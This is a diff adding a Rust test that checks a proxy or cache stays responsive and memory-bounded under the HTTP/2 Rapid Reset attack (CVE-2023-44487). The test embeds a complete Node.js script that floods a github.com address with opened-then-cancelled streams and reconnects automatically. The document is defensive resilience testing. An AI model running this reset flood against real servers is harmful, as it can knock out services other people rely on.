@@ -190,3 +190,55 @@ fn clients_that_are_slow_hold_up_nobody() {
     assert_eq!(done.stdout, "small".repeat(50), "{}", done.stderr);
     assert_eq!(upstream.n_asked(HOST, PATH), 1);
 }
+
+/// Opens streams over HTTP/2 and resets each at once (CVE-2023-44487), on a new connection wherever one is closed.
+const RESETS: &str = "
+const { connect, constants } = require('http2');
+const { writeFileSync, renameSync } = require('fs');
+let n = 0;
+function storm() {
+  const session = connect('https://github.com');
+  session.on('error', () => {});
+  session.on('close', () => setTimeout(storm, 1));
+  const reset = () => {
+    for (let i = 0; i < 100 && !session.closed && !session.destroyed; i += 1) {
+      const stream = session.request({ ':path': '/acme/tool/releases/download/v1.0.0/tool' });
+      stream.on('error', () => {});
+      stream.close(constants.NGHTTP2_CANCEL);
+      n += 1;
+    }
+    writeFileSync('count', String(n));
+    if (n > 1000) renameSync('count', 'ready');
+    if (!session.closed && !session.destroyed) setImmediate(reset);
+  };
+  session.on('connect', reset);
+}
+storm();
+";
+
+#[test]
+fn streams_that_are_reset_at_once_hold_up_nobody() {
+    need("curl");
+    need("node");
+    let upstream = Upstream::start_blocking();
+    upstream.put(HOST, PATH, Answer::file("small"));
+    let world = World::new().file("resets.js", RESETS);
+    let ca = upstream.ca_file(world.path());
+    world.configure(&format!(
+        "[[upstream]]\nhost = \"{HOST}\"\nconnect = \"{}\"\nca_file = \"{}\"\n",
+        upstream.tls_address(),
+        ca.display()
+    ));
+    let script = format!(
+        "curl -sS --fail -o first https://{HOST}{PATH} || exit 1; node resets.js & resets=$!; \
+         while ! [ -e ready ]; do sleep 0.1; done; \
+         for n in $(seq 50); do curl -sS --fail --max-time 5 https://{HOST}{PATH} || exit 1; done; \
+         kill $resets"
+    );
+    let most = watched(&world, &script);
+    let n_resets: u64 = fs::read_to_string(world.project().join("ready")).unwrap().parse().unwrap();
+    assert!(n_resets > 1_000, "{n_resets}");
+    assert!(most < MEMORY_BYTES_MAX, "{} MB", most >> 20);
+    assert_eq!(upstream.n_asked(HOST, PATH), 1);
+    eprintln!("{n_resets} resets, most memory: {} MB", most >> 20);
+}
